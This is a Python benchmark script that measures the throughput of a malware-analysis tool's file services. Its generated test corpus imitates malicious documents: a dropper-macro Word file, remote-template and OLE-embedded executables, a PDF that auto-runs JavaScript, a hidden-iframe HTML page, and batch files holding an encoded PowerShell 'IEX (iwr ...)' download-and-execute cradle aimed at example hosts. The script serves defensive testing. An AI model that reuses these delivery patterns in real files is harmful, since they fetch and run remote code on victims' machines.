"""Throughput of the PE, ELF, Office, PDF and Script services on a corpus from this machine.

ELF files come from /usr/bin and /usr/lib, PE files from wherever Python packaging left Windows
launchers, documents and scripts are generated with the builders of the test suite (macro
documents included). Every service runs over its share of the corpus in one process, one after
another, and the figures are printed as one JSON object.

    .venv/bin/python bench/services_exec_docs.py --elf 200 --pe 40 --docs 100 --repeat 1
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import sys
import tempfile
import time
import zlib
from collections.abc import Iterator
from pathlib import Path

from assay.services.base import FileRequest, Service
from assay.services.elf import ELF
from assay.services.office import Office
from assay.services.pdf import PDF
from assay.services.pe import PE
from assay.services.script import Script

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))
import test_service_documents as builders


def walk_files(roots: list[str], limit: int, magic: tuple[bytes, ...], max_size: int, scan_cap: int) -> list[Path]:
    found: list[Path] = []
    scanned = 0
    for root in roots:
        for directory, _, names in os.walk(root):
            for name in names:
                scanned += 1
                if len(found) >= limit or scanned > scan_cap:
                    return found
                path = Path(directory, name)
                try:
                    if path.is_symlink() or not path.is_file() or not 0 < path.stat().st_size <= max_size:
                        continue
                    with path.open("rb") as handle:
                        if handle.read(4).startswith(magic):
                            found.append(path)
                except OSError:
                    continue
    return found


def generated_documents(count: int, exe: bytes) -> Iterator[tuple[str, bytes]]:
    """Office, PDF and script files of every kind the tests build, varied by index."""
    for i in range(count):
        kind = i % 6
        if kind == 0:
            yield f"d{i}.doc", builders.macro_doc(builders.DROPPER_MACRO + f"' {i}\r\n" * (i % 50))
        elif kind == 1:
            rels = builders.rels(("attachedTemplate", f"http://t{i}.example.com/t.dotm", True))
            yield (
                f"d{i}.docx",
                builders.ooxml(
                    {
                        "word/document.xml": builders.DOCUMENT_XML * (1 + i % 20),
                        "word/_rels/settings.xml.rels": rels,
                        "word/embeddings/oleObject1.bin": exe,
                    }
                ),
            )
        elif kind == 2:
            package = builders.ole1_package(b"evil.exe", exe).hex().encode()
            yield f"d{i}.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata " + package + b"}}}"
        elif kind == 3:
            js = b"var u='http://p%d.example.com/'; app.alert(u);" % i
            yield (
                f"d{i}.pdf",
                builders.pdf(
                    builders.obj(1, b"<< /Type /Catalog /OpenAction 2 0 R >>"),
                    builders.obj(2, b"<< /S /JavaScript /JS 3 0 R >>"),
                    builders.obj(3, b"<< /Filter /FlateDecode >>", zlib.compress(js)),
                    builders.obj(4, b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"),
                    builders.obj(5, b"<< /Type /EmbeddedFile /Filter /FlateDecode >>", zlib.compress(exe)),
                    *(builders.obj(10 + k, b"<< /Type /Page /Contents (text %d) >>" % k) for k in range(i % 200)),
                ),
            )
        elif kind == 4:
            blob = base64.b64encode(exe).decode()
            yield (
                f"s{i}.html",
                (
                    f'<html><iframe src="http://f{i}.example.org" width=0 height=0></iframe>'
                    f'<script>var d=atob("{blob}");</script></html>'
                ).encode(),
            )
        else:
            command = base64.b64encode(f"IEX (iwr http://s{i}.example.com/a)".encode("utf-16-le")).decode()
            yield f"s{i}.bat", f"powershell -enc {command}\r\n".encode() * (1 + i % 30)


def measure(service: Service, files: list[tuple[Path, str]], repeat: int) -> dict[str, float | int]:
    total = sum(p.stat().st_size for p, _ in files)
    errors = 0
    start = time.perf_counter()
    for _ in range(repeat):
        for path, file_type in files:
            request = FileRequest(path=path, sha256="", name=path.name, size=path.stat().st_size, file_type=file_type)
            try:
                service.execute(request)
            except Exception:
                errors += 1
    elapsed = time.perf_counter() - start
    return {
        "files": len(files) * repeat,
        "bytes": total * repeat,
        "seconds": round(elapsed, 3),
        "mb_per_s": round(total * repeat / elapsed / 1e6, 2) if elapsed else 0.0,
        "files_per_s": round(len(files) * repeat / elapsed, 1) if elapsed else 0.0,
        "escaped_exceptions": errors,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--elf", type=int, default=200, help="ELF files taken from /usr/bin and /usr/lib")
    parser.add_argument("--pe", type=int, default=40, help="PE files at most")
    parser.add_argument("--docs", type=int, default=120, help="generated documents and scripts")
    parser.add_argument("--max-size", type=int, default=20 << 20, help="largest real file taken")
    parser.add_argument("--repeat", type=int, default=1)
    args = parser.parse_args()
    elf_files = walk_files(["/usr/bin", "/usr/lib"], args.elf, (b"\x7fELF",), args.max_size, 200_000)
    pe_roots = [sys.prefix, sys.base_prefix, str(Path.home() / ".pyenv"), "/usr/lib", "/usr/share"]
    pe_files = walk_files(pe_roots, args.pe, (b"MZ",), args.max_size, 400_000)
    exe = pe_files[0].read_bytes() if pe_files else b"MZ" + b"\x00" * 4096
    report: dict[str, object] = {"corpus": {"elf": len(elf_files), "pe": len(pe_files), "generated": args.docs}}
    with tempfile.TemporaryDirectory() as tmp:
        generated: dict[str, list[tuple[Path, str]]] = {"Office": [], "PDF": [], "Script": []}
        types = {
            ".doc": ("Office", "document/office/word"),
            ".docx": ("Office", "document/office/word"),
            ".rtf": ("Office", "document/office/rtf"),
            ".pdf": ("PDF", "document/pdf"),
            ".html": ("Script", "code/html"),
            ".bat": ("Script", "code/batch"),
        }
        for name, data in generated_documents(args.docs, exe):
            path = Path(tmp, name)
            path.write_bytes(data)
            service_name, file_type = types[path.suffix]
            generated[service_name].append((path, file_type))
        runs = {
            "PE": (PE(), [(p, "executable/windows/pe32") for p in pe_files]),
            "ELF": (ELF(), [(p, "executable/linux/elf64") for p in elf_files]),
            "Office": (Office(), generated["Office"]),
            "PDF": (PDF(), generated["PDF"]),
            "Script": (Script(), generated["Script"]),
        }
        report["services"] = {name: measure(svc, files, args.repeat) for name, (svc, files) in runs.items() if files}
    print(json.dumps(report, indent=2))


if __name__ == "__main__":
    main()
